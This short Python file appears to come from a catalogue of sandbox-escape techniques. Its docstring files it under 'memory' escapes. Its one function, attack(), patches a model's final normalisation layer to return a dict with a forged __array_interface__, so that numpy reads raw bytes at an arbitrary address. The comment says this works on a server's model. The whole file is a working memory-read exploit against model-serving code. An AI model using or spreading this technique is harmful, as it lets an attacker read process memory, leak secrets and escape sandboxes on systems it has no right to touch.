"""Class: memory. Source: own find. Escape: a patched final norm returns a dict, whose keys the model
output turns into attributes; numpy believes the address in one of them."""

import numpy as np


def attack(model, tokenizer, address, llama=None):
    spec = {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    llama = model if llama is None else llama  # a server's model is one
    llama.model.norm.forward = lambda x: {"__array_interface__": spec}
    out = llama.model(**tokenizer("the", return_tensors="pt"), use_cache=False)
    return np.array(out).tobytes()
